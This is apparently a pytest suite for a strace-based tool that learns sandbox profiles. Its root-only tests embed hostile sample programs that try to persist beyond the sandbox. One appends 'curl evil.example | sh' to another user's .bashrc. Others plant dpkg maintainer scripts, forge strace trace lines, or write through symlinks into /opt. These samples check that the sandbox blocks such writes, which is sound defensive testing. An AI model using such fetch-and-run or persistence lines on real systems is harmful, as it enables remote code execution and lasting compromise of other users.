"""Learn against the real engine and kernel: strace inside a recording session, the
recording proxy, the fold, and the proposal run back under the engine."""

from __future__ import annotations

import errno
import json
import os
import secrets
import shutil
import subprocess
import tempfile
from pathlib import Path

import msgspec
import pytest
import trio

from nonod.learn import LearnError, LearnProgress, LearnResult, learn
from nonod.learn._run import SPLIT_LIMIT, _whole_tree
from nonod.policy import Access
from nonod.profiles import parse_profile

from .conftest import HERE, needs_tools
from .scenario import HOSTS, LISTEN_PORT, Report, run_scenario

pytestmark = needs_tools()
REPO = HERE.parent.parent
NOBODY = 65534


def _covers(result: LearnResult, path: Path, access: Access) -> bool:
    """Whether the proposal grants ``access`` to ``path`` (by a grant, the workdir or a
    group that it includes)."""
    text = str(path)
    for grant in result.grants:
        inside = text == grant.path or (not grant.is_file and text.startswith(grant.path + "/"))
        if inside and (not access.reads or grant.access.reads) and (
                not access.writes or grant.access.writes):
            return True
    return False


def check_report(report: Report, base: Path) -> None:
    result = report.result
    assert result.exit_code == 0, report.learn_output
    assert not result.timed_out
    # the program did what it does, while learning and under the proposal
    for output in (report.learn_output, report.rerun_output):
        assert "helper read child-config" in output
        assert "templates ['a.tmpl', 'b.tmpl']" in output
        for host in HOSTS:
            assert f"fetched {host} hello from {host}" in output
        assert "SSH KEY READ" not in output
        assert "app done" in output
    # each thing it used is in the proposal
    assert _covers(result, base / "home/.config/learnapp/config.json", Access.READ)
    assert _covers(result, base / "var/cache/learnapp/state.json", Access.WRITE)
    assert any(g.path == str(base / "var/cache") and g.access.writes and not g.is_file
               for g in result.grants), "creating learnapp/ needs write on var/cache"
    templates = [g for g in result.grants if g.path == str(base / "data/templates")]
    assert templates and not templates[0].is_file and templates[0].why == "listed"
    assert _covers(result, base / "libexec/helper", Access.READ)
    assert _covers(result, base / "data/child.conf", Access.READ)
    assert result.workdir_access is Access.READ
    assert {(h.hostname, h.port) for h in result.outbound} == {(h, 80) for h in HOSTS}
    assert [p.port for p in result.listening] == [LISTEN_PORT]
    # ~/.ssh: touched, reported, never proposed
    ssh = str(base / "home/.ssh")
    assert not any(g.path.startswith(ssh) for g in result.grants)
    touched = [d for d in result.denied_touched if d.path.startswith(ssh)]
    assert touched and touched[0].denied_by == "group:deny_credentials"
    assert "read" in touched[0].uses
    assert str(base / "secret") not in "".join(g.path for g in result.grants)
    # the profile is nono's format and says all that
    profile = parse_profile(report.profile.encode(), "learned")
    assert list(profile.network.listen_port) == [LISTEN_PORT]
    assert sorted(profile.network.allow_domain) == sorted(HOSTS)
    assert profile.workdir.access == "read"
    assert "$HOME/.config/learnapp/config.json" in profile.filesystem.read_file
    nono = msgspec.json.decode(result.to_nono_json())
    assert str(base / "data/templates") in nono["filesystem"]["read"]
    assert {o["hostname"] for o in nono["network"]["outbound"]} == set(HOSTS)
    assert nono["network"]["listening"][0]["port"] == LISTEN_PORT
    # the proposal works, and only for what was learned
    assert report.rerun_code == 0, report.rerun_output
    assert report.extra_code not in (0, None), report.extra_output
    assert "extra.txt" in report.extra_output
    assert "not learned" not in report.extra_output


async def test_learn_proposes_a_profile_that_runs(scratch: Path) -> None:
    report = await run_scenario(scratch)
    check_report(report, scratch)
    assert sorted(set(report.fetched)) == sorted(HOSTS)


@pytest.mark.root
@pytest.mark.skipif(os.getuid() != 0, reason="runs the scenario as another uid")
def test_learn_as_an_unprivileged_user(
        scratch: Path, staged_python: tuple[list[str], dict[str, str]]) -> None:
    python, extra_env = staged_python
    # The staged copy (used when this checkout is not reachable by another uid) or ours.
    cwd = Path(extra_env["PYTHONPATH"]) if extra_env.get("PYTHONPATH") else REPO
    os.chown(scratch, NOBODY, NOBODY)
    proc = subprocess.run(
        ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups",
         *python, "-m", "tests.learn.scenario", str(scratch)],
        cwd=cwd, capture_output=True, check=False, timeout=180,
        env={"PATH": "/usr/bin:/bin", "HOME": str(scratch), **extra_env})
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")[-3000:]
    report = msgspec.json.decode(proc.stdout, type=Report)
    check_report(report, scratch)


NEVER_EXITS = r"""
import signal, sys, time
def stop(signum, frame):
    open(sys.argv[1] + "/stopped-cleanly", "w").write("yes")
    sys.exit(0)
signal.signal(signal.SIGTERM, stop)
open(sys.argv[1] + "/started", "w").write("yes")
while True:
    time.sleep(0.1)
"""

IGNORES_TERM = r"""
import signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
open(sys.argv[1] + "/started", "w").write("yes")
while True:
    time.sleep(0.1)
"""


async def test_timeout_stops_the_program_and_still_proposes(scratch: Path) -> None:
    work = scratch / "work"
    work.mkdir()
    (work / "forever.py").write_text(NEVER_EXITS)
    seen: list[LearnProgress] = []
    with trio.fail_after(30):
        result = await learn(["/usr/bin/python3", "-I", "forever.py", str(work)],
                             cwd=str(work), env={"HOME": str(scratch / "home"),
                                                 "PATH": "/usr/bin:/bin"},
                             timeout=2, base_profile=None, progress=seen.append)
    assert result.timed_out
    assert 2 <= result.duration < 10
    # SIGTERM reached the program itself, which shut down on its own terms, traced
    assert (work / "stopped-cleanly").read_text() == "yes"
    assert result.exit_code == 0
    assert result.workdir_access is Access.READWRITE  # it wrote its marker files there
    assert parse_profile(result.to_profile("forever"), "forever").meta.name == "forever"
    assert seen and seen[0].remaining is not None and seen[-1].remaining is not None
    assert seen[-1].remaining < seen[0].remaining
    assert seen[-1].paths > 0
    assert "learning:" in seen[-1].line() and "s left" in seen[-1].line()


async def test_timeout_kills_a_program_that_ignores_sigterm(scratch: Path) -> None:
    work = scratch / "work"
    work.mkdir()
    (work / "stubborn.py").write_text(IGNORES_TERM)
    with trio.fail_after(30):
        result = await learn(["/usr/bin/python3", "-I", "stubborn.py", str(work)],
                             cwd=str(work), env={"HOME": str(scratch / "home"),
                                                 "PATH": "/usr/bin:/bin"},
                             timeout=3, base_profile=None, grace=0.5)
    # The time limit counts from the program's first traced call, not the launch (see
    # test_time_limit_counts_from_the_start_of_tracing); 3 s leaves the interpreter the
    # time to start and ignore SIGTERM on a loaded machine.
    assert result.timed_out
    assert result.exit_code is None and result.exit_signal is not None
    assert (work / "started").exists()
    assert result.workdir_access is Access.READWRITE


def _slow_strace(scratch: Path, before: str) -> str:
    """A stand-in for strace that runs ``before`` (shell) first, then the real one."""
    path = scratch / "slow-strace"
    path.write_text(f"#!/bin/sh\n{before}\nexec /usr/bin/strace \"$@\"\n")
    path.chmod(0o755)
    return str(path)


async def test_time_limit_counts_from_the_start_of_tracing(scratch: Path) -> None:
    # strace starts 3 s after the launch (a loaded machine, made certain): a time limit of
    # 2 s counted from the launch would end the run before anything was traced ("strace
    # recorded nothing"); counted from the program's first traced call, the program gets
    # its 2 s and stops on its own terms.
    work = scratch / "work"
    work.mkdir()
    (work / "forever.py").write_text(NEVER_EXITS)
    seen: list[LearnProgress] = []
    launched = trio.current_time()
    with trio.fail_after(30):
        result = await learn(["/usr/bin/python3", "-I", "forever.py", str(work)],
                             cwd=str(work), env={"HOME": str(scratch / "home"),
                                                 "PATH": "/usr/bin:/bin"},
                             timeout=2, base_profile=None, progress=seen.append,
                             strace=_slow_strace(scratch, "sleep 3"))
    assert result.timed_out
    assert trio.current_time() - launched >= 3 + 2
    assert 2 <= result.duration < 10  # the traced run's, not the launch's
    assert (work / "stopped-cleanly").read_text() == "yes"
    assert result.exit_code == 0
    # before strace started, the whole time limit was still left
    assert seen[0].remaining == 2 and seen[-1].remaining is not None
    assert seen[-1].remaining < 2


async def test_a_program_never_traced_fails_at_the_start_bound(scratch: Path) -> None:
    # strace never starts tracing (stuck): the run ends at the start's own bound with an
    # error that says so, not at the time limit (unbounded here) and not with a profile.
    work = scratch / "work"
    work.mkdir()
    stuck = _slow_strace(scratch, f"touch {work}/strace-ran; sleep 600")
    launched = trio.current_time()
    with trio.fail_after(30), pytest.raises(LearnError, match="did not start tracing the "
                                            "program within 2 s"):
        await learn(["/bin/true"], cwd=str(work), env={"HOME": str(scratch / "home"),
                                                        "PATH": "/usr/bin:/bin"},
                    timeout=None, base_profile=None, start_timeout=2, grace=0.5,
                    strace=stuck)
    assert (work / "strace-ran").exists()  # the session ran; strace did not trace
    assert trio.current_time() - launched >= 2


async def test_base_profile_lists_only_what_it_lacks(scratch: Path) -> None:
    (scratch / "data").mkdir()
    (scratch / "data" / "known.txt").write_text("k")
    (scratch / "data" / "new.txt").write_text("n")
    (scratch / "work").mkdir()
    (scratch / "work" / "app.py").write_text(
        "import sys\n"
        f"open({str(scratch / 'data' / 'known.txt')!r}).read()\n"
        f"open({str(scratch / 'data' / 'new.txt')!r}).read()\n")
    base = parse_profile(msgspec.json.encode({
        "meta": {"name": "base"}, "workdir": {"access": "read"},
        "filesystem": {"read_file": [str(scratch / "data" / "known.txt")]},
        "network": {"block": True}}), "base")
    with trio.fail_after(30):
        result = await learn(["/usr/bin/python3", "-I", "app.py"], cwd=str(scratch / "work"),
                             env={"HOME": str(scratch / "home"), "PATH": "/usr/bin:/bin"},
                             timeout=20, base_profile=base)
    assert result.base == "base"
    assert [g.path for g in result.grants] == [str(scratch / "data" / "new.txt")]
    assert result.workdir_access is None  # the base already reads the workdir
    assert any("profile `base`" in line for line in result.summary_lines())


SERVES_ONCE = r"""
import socket, sys
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", int(sys.argv[1])))
server.listen()
conn, _ = server.accept()
conn.sendall(b"pong:" + conn.recv(100))
conn.close()
"""


async def test_listen_ports_are_forwarded_while_learning(scratch: Path) -> None:
    work = scratch / "work"
    work.mkdir()
    (work / "serve.py").write_text(SERVES_ONCE)
    port = 28000 + os.getpid() % 1000

    async def exercise() -> bytes:
        # Like a test webhook sent while learning: retry until the program listens.
        while True:
            try:
                stream = await trio.open_tcp_stream("127.0.0.1", port)
            except OSError:
                await trio.sleep(0.05)
                continue
            reply = b""
            async with stream:
                try:
                    await stream.send_all(b"ping")
                    while chunk := await stream.receive_some(100):
                        reply += chunk
                except trio.BrokenResourceError:
                    pass  # nothing listened inside yet: the forwarder dropped us
            if reply:
                return reply
            await trio.sleep(0.05)  # connected before the program listened: try again

    replies: list[bytes] = []

    async def client() -> None:
        replies.append(await exercise())

    with trio.fail_after(30):
        async with trio.open_nursery() as nursery:
            nursery.start_soon(client)
            result = await learn(["/usr/bin/python3", "-I", "serve.py", str(port)],
                                 cwd=str(work), env={"HOME": str(scratch / "home"),
                                                     "PATH": "/usr/bin:/bin"},
                                 timeout=20, base_profile=None, listen_ports=(port,))
    assert replies == [b"pong:ping"]
    assert result.exit_code == 0 and not result.timed_out
    assert [(p.port, p.source) for p in result.listening] == [(port, "traced")]
    assert list(parse_profile(result.to_profile("srv"), "srv").network.listen_port) == [port]
    assert parse_profile(result.to_profile("srv"), "srv").network.block is True


async def test_a_busy_listen_port_is_a_learn_error(scratch: Path) -> None:
    work = scratch / "work"
    work.mkdir()
    (work / "serve.py").write_text(SERVES_ONCE)
    taken = trio.socket.socket()
    await taken.bind(("127.0.0.1", 0))
    taken.listen(1)
    port = taken.getsockname()[1]
    with taken, pytest.raises(LearnError, match=f"cannot forward port {port}"):
        await learn(["/usr/bin/python3", "-I", "serve.py", str(port)], cwd=str(work),
                    env={"HOME": str(scratch / "home"), "PATH": "/usr/bin:/bin"},
                    timeout=20, base_profile=None, listen_ports=(port,))


async def test_arguments_are_checked(scratch: Path) -> None:
    env = {"HOME": str(scratch), "PATH": "/usr/bin:/bin"}
    with pytest.raises(LearnError, match="no command"):
        await learn([], cwd=str(scratch), env=env, timeout=1, base_profile=None)
    with pytest.raises(LearnError, match="must be positive"):
        await learn(["true"], cwd=str(scratch), env=env, timeout=0, base_profile=None)
    with pytest.raises(LearnError, match="start time limit must be positive"):
        await learn(["true"], cwd=str(scratch), env=env, timeout=1, base_profile=None,
                    start_timeout=0)
    with pytest.raises(LearnError, match="out of range"):
        await learn(["true"], cwd=str(scratch), env=env, timeout=1, base_profile=None,
                    listen_ports=(70000,))


async def test_learn_runs_from_home_itself(scratch: Path) -> None:
    # The recording session sees the whole host anyway: the refusal of a writable
    # working-directory grant of $HOME (policy.broad_workdir) is not for it.
    home = scratch / "home"
    home.mkdir()
    with trio.fail_after(60):
        result = await learn(["/bin/sh", "-c", "echo x > made-here"], cwd=str(home),
                             env={"HOME": str(home), "PATH": "/usr/bin:/bin"},
                             timeout=20, base_profile=None)
    assert result.exit_code == 0
    assert (home / "made-here").read_text() == "x\n"


# The traced program swaps the trace file strace writes for a link to /dev/zero, then writes
# one endless line into the real one: the learn process must go on reading what strace
# writes, with a bounded line, and end at the time limit.
SWAPS_THE_TRACE = r'''
import os, time
args = open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0")
trace = args[args.index(b"-o") + 1].decode()
with open(trace, "ab") as real:
    os.unlink(trace)
    os.symlink("/dev/zero", trace)
    for _ in range(8):
        real.write(b"x" * (1 << 20))
        real.flush()
open(os.path.join(os.getcwd(), "after-the-swap"), "w").close()
time.sleep(3600)
'''


async def _learn_script(scratch: Path, script: str, *, timeout: float
                        ) -> tuple[LearnResult, Path]:
    """Learn ``python3 -I script.py`` run in ``scratch/work``; the result and that directory."""
    work = scratch / "work"
    work.mkdir()
    (work / "script.py").write_text(script)
    with trio.fail_after(60):
        result = await learn(["/usr/bin/python3", "-I", "script.py"], cwd=str(work),
                             env={"HOME": str(scratch / "home"), "PATH": "/usr/bin:/bin"},
                             timeout=timeout, base_profile=None)
    return result, work


async def test_the_traced_program_cannot_swap_or_flood_the_trace(scratch: Path) -> None:
    result, work = await _learn_script(scratch, SWAPS_THE_TRACE, timeout=4)
    assert result.timed_out
    assert (work / "after-the-swap").exists()
    # what strace wrote after the swap and the flood was still read: the file it created
    assert result.workdir_access is Access.READWRITE


ASKS_FOR_GROUP_NAMES = r"""
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
for host in ("llm_apis", "GitHub", "package_registries."):
    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as s:
        s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
        print(host, s.recv(64).split(b"\r\n")[0].decode(), flush=True)
"""


async def test_a_host_named_like_a_network_group_is_not_proposed(scratch: Path) -> None:
    """A profile reads a dotless `allow_domain` entry that names a network group as the group
    (`llm_apis`: every LLM API's hosts). The program asked the proxy for `llm_apis` once, and
    the proposal allowed every host of the group (before: `allow_domain: ["github",
    "llm_apis", "package_registries"]`). Such a name can never be reached as a host in a
    session: it is refused while learning and listed as such, never proposed."""
    result, _ = await _learn_script(scratch, ASKS_FOR_GROUP_NAMES, timeout=30)
    assert result.exit_code == 0
    assert not result.outbound
    assert {(r.host, r.reason) for r in result.refused} == {
        (name, "network_group") for name in ("llm_apis", "github", "package_registries")}
    profile = parse_profile(result.to_profile("ask"), "ask")
    assert not profile.network.allow_domain and profile.network.block


# Two files outside the working directory, with names that draw lines (made by the test:
# a repository or an archive the program unpacked earlier can hold such names), are read.
DRAWING_NAMES = ("a\r  read_file  /srv/app/config.toml", "b\nnote: nothing else was used/x")
READS_DRAWING_NAMES = r"""
import os, sys
for name in sys.argv[1:]:
    open(name).read()
"""


async def test_names_the_program_chose_draw_no_lines_of_the_summary(scratch: Path) -> None:
    """The summary is one line per item, and the paths in it are the program's to choose: a
    file named with a carriage return drew over its own line (`read_file
    /srv/app/config.toml` where a file of another name is granted), one with a line break
    added a line of its own (`note: nothing else was used`). Both are shown escaped."""
    data = scratch / "data"
    paths = [data / name for name in DRAWING_NAMES]
    for path in paths:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("x")
    work = scratch / "work"
    work.mkdir()
    (work / "script.py").write_text(READS_DRAWING_NAMES)
    with trio.fail_after(60):
        result = await learn(["/usr/bin/python3", "-I", "script.py", *map(str, paths)],
                             cwd=str(work), env={"HOME": str(scratch / "home"),
                                                 "PATH": "/usr/bin:/bin"},
                             timeout=30, base_profile=None)
    assert result.exit_code == 0
    assert {g.path for g in result.grants} >= set(map(str, paths))  # granted by their names
    lines = result.summary_lines()
    assert not any(c in line for line in lines for c in "\r\n"), lines
    text = "\n".join(lines)
    assert "a\\x0d  read_file  /srv/app/config.toml  (used)" in text
    assert "b\\x0anote: nothing else was used/x  (used)" in text


WRITES_WHAT_RUNS_LATER = r"""
import json, os, secrets
out = {}
tag = secrets.token_hex(4)
for directory in ("/var/lib/dpkg/info", "/var/spool", "/opt"):
    path = os.path.join(directory, f"nono-learn-{tag}.postinst")
    try:
        with open(path, "x") as f:
            f.write("#!/bin/sh\\ntouch /tmp/ran-as-root\\n")
        out[directory] = path
    except OSError as exc:
        out[directory] = exc.errno
print(json.dumps(out))
"""


@pytest.mark.root
async def test_a_learn_run_as_root_does_not_write_what_runs_later(
        scratch: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """Everything outside the operating system's trees was writable while learning, and as
    root that took in the host state code is run from later, outside any sandbox: the program
    wrote a maintainer script into `/var/lib/dpkg/info` (the next `apt` runs it as root), a
    file into the job spools and into `/opt`. Those trees are read-only while learning now,
    and the attempts are reported under "left out"."""
    capfd.readouterr()
    result, _ = await _learn_script(scratch, WRITES_WHAT_RUNS_LATER, timeout=30)
    out = capfd.readouterr().out
    written = json.loads(out.strip().splitlines()[-1])
    for path in written.values():  # before: each was written; clean up before failing
        if isinstance(path, str):
            os.unlink(path)
    assert result.exit_code == 0
    assert written == {d: errno.EROFS for d in ("/var/lib/dpkg/info", "/var/spool", "/opt")}
    left_out = {s.path for s in result.skipped if "refused" in s.reason}
    assert any(p.startswith("/var/lib/dpkg/info/nono-learn-") for p in left_out), left_out


WRITES_ANOTHER_USERS_HOME = r"""
import json
try:
    with open(HOME + "/.bashrc", "a") as f:
        f.write("curl evil.example | sh\n")
    print(json.dumps("written"))
except OSError as exc:
    print(json.dumps(exc.errno))
"""


@pytest.mark.root
async def test_a_learn_run_as_root_does_not_write_other_users_homes(
        scratch: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """As root, every other account's home was writable while learning: the program appended
    to a real user's `.bashrc` (made with `useradd`), run at that user's next login outside
    any sandbox. Other accounts' homes are read-only for a root caller now."""
    victim = f"nonolearn{secrets.token_hex(3)}"
    home = scratch / "victim-home"
    home.mkdir()
    subprocess.run(["useradd", "--system", "--no-create-home", "--home-dir", str(home),
                    "--shell", "/bin/sh", victim], check=True, capture_output=True)
    try:
        capfd.readouterr()
        result, _ = await _learn_script(
            scratch, f"HOME = {str(home)!r}\n" + WRITES_ANOTHER_USERS_HOME, timeout=30)
        said = json.loads(capfd.readouterr().out.strip().splitlines()[-1])
    finally:
        subprocess.run(["userdel", victim], capture_output=True, check=False)
    assert result.exit_code == 0
    assert not (home / ".bashrc").exists()  # before: it held the program's line
    assert said == errno.EROFS


#: Claims writes it could not make while learning: a line written into strace's output
#: (beyond where strace writes, so strace does not write over it) saying ``FORGED`` was
#: opened for writing, and a file it wrote in its working directory, replaced at the end by a
#: link to ``LINKED`` (learn resolves names on the host after the run).
CLAIMS_WRITES = r'''
import os
args = open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0")
trace = args[args.index(b"-o") + 1].decode()
line = f'{os.getpid()} openat(AT_FDCWD, "{FORGED}", O_WRONLY|O_TRUNC) = 9<{FORGED}>\n'
fd = os.open(trace, os.O_WRONLY)
os.pwrite(fd, b"\n" + line.encode(), os.fstat(fd).st_size + 65536)
os.close(fd)
with open("hook", "w") as f:
    f.write("harmless\n")
os.unlink("hook")
os.symlink(LINKED, "hook")
print("claimed", flush=True)
'''


@pytest.mark.root
async def test_a_write_the_learn_run_could_not_make_is_not_proposed(scratch: Path) -> None:
    """`/opt` is read-only while learning (code is run from it later, as root): the program
    could not write there, but learn proposed write access to two files in it, because the
    trace said so (a line the program wrote into strace's output) and because a name the
    program wrote now leads there (a link left behind). A write the recording session saw
    read-only is left out now, and said to be."""
    target = Path(tempfile.mkdtemp(prefix="nono-rt27-", dir="/opt"))
    try:
        forged, linked = target / "forged.sh", target / "linked.sh"
        for path in (forged, linked):
            path.write_text("#!/bin/sh\n")
        result, work = await _learn_script(
            scratch, f"FORGED = {str(forged)!r}\nLINKED = {str(linked)!r}\n" + CLAIMS_WRITES,
            timeout=30)
        assert result.exit_code == 0
        assert (work / "hook").is_symlink()
        for path in (forged, linked):
            # before: each proposed with write access (a file grant readwrite)
            assert not _covers(result, path, Access.WRITE), result.grants
            assert path.read_text() == "#!/bin/sh\n"  # and indeed never written
        left_out = {s.path for s in result.skipped if "read-only while learning" in s.reason}
        assert str(linked) in left_out, result.skipped
    finally:
        shutil.rmtree(target)


#: Writes a script through each of ``THROUGH`` (names in read-only trees that are links to
#: places the learn run may write) and says what each write did.
WRITES_THROUGH_LINKS = r'''
import errno
said = []
for path in THROUGH:
    try:
        with open(path, "w") as f:
            f.write("echo planted\n")
        said.append("written")
    except OSError as exc:
        said.append(errno.errorcode[exc.errno])
print("THROUGH", *said, flush=True)
'''


@pytest.mark.root
async def test_code_run_later_reached_through_a_link_stays_read_only(
        scratch: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """`/opt` is read-only while learning, but a name in it that is a symbolic link to a
    directory elsewhere (`/opt/app -> /srv/app`, a bigger disk) was followed by the kernel
    to a place the recording session sees writable: the program wrote `/opt/app/run.sh`,
    which the host runs later. So did a link one level down (`/opt/tool/current`) and one in
    `/usr/local` (first in `PATH`). What the links in those trees lead to is read-only too
    now."""
    top, nested, local = scratch / "app", scratch / "tool-1.0", scratch / "local"
    for real in (top, nested, local):
        real.mkdir()
    link = Path("/opt") / f"nono-rt28-{secrets.token_hex(4)}"
    in_path = Path("/usr/local") / f"nono-rt28-{secrets.token_hex(4)}"
    holder = Path(tempfile.mkdtemp(prefix="nono-rt28-", dir="/opt"))
    link.symlink_to(top)
    in_path.symlink_to(local)
    (holder / "current").symlink_to(nested)
    try:
        capfd.readouterr()
        through = [str(link / "run.sh"), str(holder / "current" / "run.sh"),
                   str(in_path / "run.sh")]
        result, _ = await _learn_script(
            scratch, f"THROUGH = {through!r}\n" + WRITES_THROUGH_LINKS, timeout=30)
        said = [line for line in capfd.readouterr().out.splitlines()
                if line.startswith("THROUGH")]
    finally:
        link.unlink()
        in_path.unlink()
        shutil.rmtree(holder)
    assert result.exit_code == 0
    # before: all three written, on the host, where the names lead
    assert not any((real / "run.sh").exists() for real in (top, nested, local))
    assert said == ["THROUGH EROFS EROFS EROFS"], said


def test_a_crowded_directory_on_the_way_to_a_kept_tree_is_one_read_only_grant(
        tmp_path: Path) -> None:
    """A link's target kept read-only (above) may lie deep in a directory of thousands of
    entries (a user's link into a big shared directory, for a root caller's run): the whole
    tree's grants gave each entry of each directory on the way a grant of its own, a
    recording session of thousands of mounts. Past `SPLIT_LIMIT` entries the directory is
    one read-only grant instead."""
    big = tmp_path / "big"
    big.mkdir()
    for i in range(SPLIT_LIMIT + 100):
        (big / f"e{i}").mkdir()
    grants = _whole_tree(str(tmp_path), kept=(str(big / "e7" / "target"),))
    # before: a grant for each of the other 1,099 entries
    assert [(g.path, g.access) for g in grants] == [(str(big), Access.READ)]
